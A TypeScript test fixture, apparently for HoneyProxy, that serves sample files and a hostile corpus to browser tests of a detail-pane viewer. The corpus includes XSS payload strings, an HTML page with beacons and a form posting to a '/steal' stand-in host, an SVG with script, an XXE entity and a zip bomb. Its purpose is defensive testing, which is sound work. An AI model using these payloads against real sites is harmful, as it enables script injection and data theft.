/**
 * Bodies for the detail-pane browser tests, served by a testkit origin and captured through the
 * real sensor: one route per visualizer (a real PNG, SVG, HTML, JS, CSS, JSON, XML, windows-1252
 * text, ELF, Mach-O, PE, ZIP, zip bomb, PDF, font, WAV, random bytes) and a hostile set (scripts,
 * beacons, meta refresh, forms, SVG with script, a PE served as .jpg, a 5 MB one-line script).
 * Every hostile payload calls `__hpXss(…)` (a page binding the tests install) or alert(), and
 * every beacon points at 198.18.0.1 (benchmarking range, never routed); tests assert neither
 * happens. Routes answer any method; POSTs to /echo get a JSON receipt.
 */
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { crc32, deflateSync } from 'node:zlib';
import { buildMacho, buildPdf, buildPe, buildZip, buildZipBomb } from '@honeyproxy/testkit';

export const BEACON = 'http://198.18.0.1';
/** Calls the test's binding; must never run. */
export const XSS_CALL = '__hpXss(document.domain)';
export const XSS = [
  `<script>${XSS_CALL}</script>`,
  `<img src=x onerror="${XSS_CALL}">`,
  `"><svg onload=${XSS_CALL}>`,
  `javascript:${XSS_CALL}`,
  `'-alert(1)-'`,
  `{{constructor.constructor('${XSS_CALL}')()}}`,
] as const;

export interface CorpusBody {
  contentType: string;
  body: Buffer;
  headers?: [string, string][];
  status?: number;
  reason?: string;
}

function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([len, typed, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const rows: Buffer[] = [];
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(1 + width * 3);
    for (let x = 0; x < width; x++) {
      const inHex = Math.hypot(x - width / 2, y - height / 2) < width * 0.38;
      row.set(inHex ? [245, 166, 35] : [30 + y, 60 + x, 110], 1 + x * 3);
    }
    rows.push(row);
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.concat(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A minimal TrueType (sfnt) file: one 'name' table naming the family. */
function font(family: string): Buffer {
  const name16 = Buffer.from(family, 'utf16le').swap16();
  const table = Buffer.alloc(6 + 12 + name16.length);
  table.writeUInt16BE(0, 0);
  table.writeUInt16BE(1, 2);
  table.writeUInt16BE(18, 4);
  table.writeUInt16BE(3, 6); // Windows
  table.writeUInt16BE(1, 8); // Unicode BMP
  table.writeUInt16BE(0x409, 10);
  table.writeUInt16BE(1, 12); // family
  table.writeUInt16BE(name16.length, 14);
  table.writeUInt16BE(0, 16);
  name16.copy(table, 18);
  const head = Buffer.alloc(12 + 16);
  head.writeUInt32BE(0x00010000, 0);
  head.writeUInt16BE(1, 4);
  head.write('name', 12, 'latin1');
  head.writeUInt32BE(28, 20);
  head.writeUInt32BE(table.length, 24);
  return Buffer.concat([head, table]);
}

function wav(): Buffer {
  const samples = 8000;
  const b = Buffer.alloc(44 + samples * 2);
  b.write('RIFF', 0, 'latin1');
  b.writeUInt32LE(36 + samples * 2, 4);
  b.write('WAVEfmt ', 8, 'latin1');
  b.writeUInt32LE(16, 16);
  b.writeUInt16LE(1, 20);
  b.writeUInt16LE(1, 22);
  b.writeUInt32LE(8000, 24);
  b.writeUInt32LE(16000, 28);
  b.writeUInt16LE(2, 32);
  b.writeUInt16LE(16, 34);
  b.write('data', 36, 'latin1');
  b.writeUInt32LE(samples * 2, 40);
  for (let i = 0; i < samples; i++) b.writeInt16LE(Math.round(8000 * Math.sin(i / 4)), 44 + i * 2);
  return b;
}

const text = (s: string) => Buffer.from(s, 'utf8');

/** Ordinary content, one per visualizer (the detail test's screenshots). */
export const VISUALIZER_CORPUS: Record<string, CorpusBody> = {
  '/logo.png': { contentType: 'image/png', body: png(64, 48) },
  '/icon.svg': {
    contentType: 'image/svg+xml',
    body: text(
      '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120" viewBox="0 0 120 120"><rect width="120" height="120" rx="18" fill="#0a5fc4"/><path d="M60 22l33 19v38L60 98 27 79V41z" fill="#f5a623"/></svg>',
    ),
  },
  '/page.html': {
    contentType: 'text/html; charset=utf-8',
    body: text(
      '<!doctype html><html><head><title>Shop</title><style>body{font:16px sans-serif;margin:24px;color:#234}h1{color:#0a5fc4}.card{border:1px solid #ccd;padding:12px;border-radius:8px}</style></head><body><h1>Welcome back</h1><div class="card"><p>Your order <b>#1042</b> has shipped.</p><ul><li>Blue widget × 2</li><li>Red gadget</li></ul></div></body></html>',
    ),
  },
  '/app.js': {
    contentType: 'application/javascript',
    body: text(
      'function init(e){var t=document.getElementById(e);if(!t)return null;for(var n=0;n<10;n++){t.dataset["k"+n]=String(n*2)}return fetch("/api/v1/ping",{method:"POST",body:JSON.stringify({id:e,ts:Date.now()})}).then(function(r){return r.json()})}window.addEventListener("load",function(){init("main")});',
    ),
  },
  '/style.css': {
    contentType: 'text/css',
    body: text(
      'body{margin:0;font-family:system-ui}.nav a{color:#0a5fc4;text-decoration:none}@media (max-width:600px){.nav{display:none}}',
    ),
  },
  '/data.json': {
    contentType: 'application/json',
    body: text(
      '{"user":{"id":42,"name":"admin","roles":["root","ops"]},"session":"c2Vzc2lvbg==","ok":true,"limits":[1,2.5,null]}',
    ),
  },
  '/feed.xml': {
    contentType: 'application/xml',
    body: text(
      '<?xml version="1.0"?><rss version="2.0"><channel><title>Updates</title><item><title>Patch</title><link>http://update.test/p</link></item></channel></rss>',
    ),
  },
  '/latin1.txt': {
    contentType: 'text/plain',
    body: Buffer.from(
      'Caf\xe9 cr\xe8me br\xfbl\xe9e \u2014 na\xefve r\xe9sum\xe9\n'.replace('\u2014', '-'),
      'latin1',
    ),
  },
  '/true.elf': { contentType: 'application/octet-stream', body: readFileSync('/bin/true') },
  '/tool.macho': { contentType: 'application/octet-stream', body: buildMacho() },
  '/setup.exe': {
    contentType: 'application/x-msdownload',
    body: buildPe({
      'KERNEL32.dll': ['CreateProcessA', 'VirtualAlloc', 'WriteProcessMemory'],
      'WININET.dll': ['InternetOpenUrlA', 'InternetReadFile'],
    }),
  },
  '/archive.zip': {
    contentType: 'application/zip',
    body: buildZip([
      { name: 'readme.txt', data: text('hello '.repeat(400)) },
      { name: 'bin/payload.exe', data: buildPe() },
      { name: 'docs/notes.md', data: text('# notes\n'.repeat(50)) },
    ]),
  },
  '/bomb.zip': { contentType: 'application/zip', body: buildZipBomb() },
  '/doc.pdf': {
    contentType: 'application/pdf',
    body: buildPdf('Invoice <script>alert(1)</script>'),
  },
  '/font.ttf': { contentType: 'font/ttf', body: font('HoneyProxy Test Sans') },
  '/tone.wav': { contentType: 'audio/wav', body: wav() },
  '/cat.jpg': { contentType: 'image/jpeg', body: buildPe() },
  '/blob.bin': {
    contentType: 'application/octet-stream',
    body: Buffer.from(Array.from({ length: 1 << 20 }, (_, i) => (i * 2654435761) >>> 24)),
  },
};

const HOSTILE_HTML = [
  '<!doctype html><html><head>',
  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh">`,
  `<link rel="stylesheet" href="${BEACON}/style.css">`,
  `<style>@import url(${BEACON}/import.css); body{background:url(${BEACON}/bg.png)} @font-face{font-family:x;src:url(${BEACON}/f.woff)}</style>`,
  `<script>${XSS_CALL}; alert(1); top.location = '${BEACON}/top'; navigator.sendBeacon('${BEACON}/beacon');</script>`,
  `<script src="${BEACON}/evil.js"></script>`,
  '</head><body onload="__hpXss(\'onload\')">',
  `<h1>Hostile page</h1><img src="${BEACON}/pixel.gif"><img src=x onerror="${XSS_CALL}">`,
  `<form action="${BEACON}/steal" method="post"><input name="u" autofocus onfocus="${XSS_CALL}"><button>go</button></form>`,
  `<iframe src="${BEACON}/frame"></iframe><object data="${BEACON}/obj"></object><embed src="${BEACON}/e.swf">`,
  `<a href="javascript:${XSS_CALL}" id="l">click</a><video src="${BEACON}/v.mp4" autoplay></video>`,
  `<svg><script>${XSS_CALL}</script></svg><math><mtext><script>${XSS_CALL}</script></mtext></math>`,
  '</body></html>',
].join('\n');

const HOSTILE_SVG = [
  '<?xml version="1.0"?>',
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="80" onload="${XSS_CALL}">`,
  `<script>${XSS_CALL}; alert('svg')</script>`,
  `<image href="${BEACON}/svg-image.png" width="10" height="10"/>`,
  `<foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><img src="${BEACON}/fo.gif" onerror="${XSS_CALL}"/></div></foreignObject>`,
  '<rect width="200" height="80" fill="#c62828"/><text x="10" y="45" fill="#fff">hostile svg</text>',
  '</svg>',
].join('\n');

/** 5 MB of JavaScript on one line (with a payload call inside, which must never run). */
export const BIG_JS = Buffer.from(`var a=[${'1234567,'.repeat(655_360)}0];${XSS_CALL};`);

export const HOSTILE_CORPUS: Record<string, CorpusBody> = {
  '/evil.html': {
    contentType: 'text/html',
    body: text(HOSTILE_HTML),
    headers: [
      ['X-Evil', XSS[1]],
      ['Link', `<${BEACON}/preload.js>; rel=preload; as=script`],
      ['Refresh', `0; url=${BEACON}/header-refresh`],
      ['Content-Security-Policy', "script-src 'unsafe-inline'"],
    ],
  },
  '/evil.svg': { contentType: 'image/svg+xml', body: text(HOSTILE_SVG) },
  '/cat.jpg': { contentType: 'image/jpeg', body: buildPe() },
  '/big.js': { contentType: 'application/javascript', body: BIG_JS },
  '/bomb.zip': { contentType: 'application/zip', body: buildZipBomb() },
  '/evil.pdf': { contentType: 'application/pdf', body: buildPdf(XSS[0]) },
  '/evil.json': {
    contentType: 'application/json',
    body: text(
      JSON.stringify({
        [XSS[0]]: XSS[1],
        list: [...XSS],
        nested: { '<b onmouseover=x()>': XSS[2] },
      }),
    ),
  },
  '/evil.css': {
    contentType: 'text/css',
    body: text(
      `@import url(${BEACON}/x.css); body { background: url("javascript:${XSS_CALL}"); behavior: url(${BEACON}/x.htc); width: expression(${XSS_CALL}); } /* </style><script>${XSS_CALL}</script> */`,
    ),
  },
  '/evil.xml': {
    contentType: 'text/xml',
    body: text(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${BEACON}/xxe">]><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${XSS_CALL}</h:script>&e;</x>`,
    ),
  },
  '/evil.txt': { contentType: 'text/plain', body: text(XSS.join('\n')) },
  '/evil-status': {
    contentType: 'text/html',
    body: text(XSS[0]),
    status: 299,
    reason: '<img src=x onerror=__hpXss(1)>',
    headers: [
      [XSS[2].replace(/[^!#$%&'*+.^_`|~0-9A-Za-z-]/g, '-'), XSS[0]],
      ['Location', `javascript:${XSS_CALL}`],
      ['Set-Cookie', `s="${XSS[1]}"`],
    ],
  },
};

/** A request listener serving `corpus` (any method); POST /echo answers a JSON receipt. */
export function corpusRoutes(corpus: Record<string, CorpusBody>) {
  return (req: IncomingMessage, res: ServerResponse): void => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const path = (req.url ?? '/').split('?')[0] ?? '/';
      const entry = corpus[path];
      if (!entry) {
        const body = Buffer.from(
          JSON.stringify({ received: Buffer.concat(chunks).length, path: req.url }),
        );
        res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': body.length });
        res.end(body);
        return;
      }
      const headers: string[] = [
        'Content-Type',
        entry.contentType,
        'Content-Length',
        String(entry.body.length),
      ];
      for (const [k, v] of entry.headers ?? []) headers.push(k, v);
      res.writeHead(entry.status ?? 200, entry.reason ?? 'OK', headers);
      res.end(entry.body);
    });
  };
}

/** A multipart/form-data body (CRLF, one boundary) with fields and files. */
export function multipartBody(
  boundary: string,
  parts: { name: string; filename?: string; type?: string; data: Buffer | string }[],
): Buffer {
  const out: Buffer[] = [];
  for (const p of parts) {
    let head = `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) head += `; filename="${p.filename}"`;
    head += '\r\n';
    if (p.type) head += `Content-Type: ${p.type}\r\n`;
    out.push(
      Buffer.from(`${head}\r\n`),
      Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data),
      Buffer.from('\r\n'),
    );
  }
  out.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(out);
}
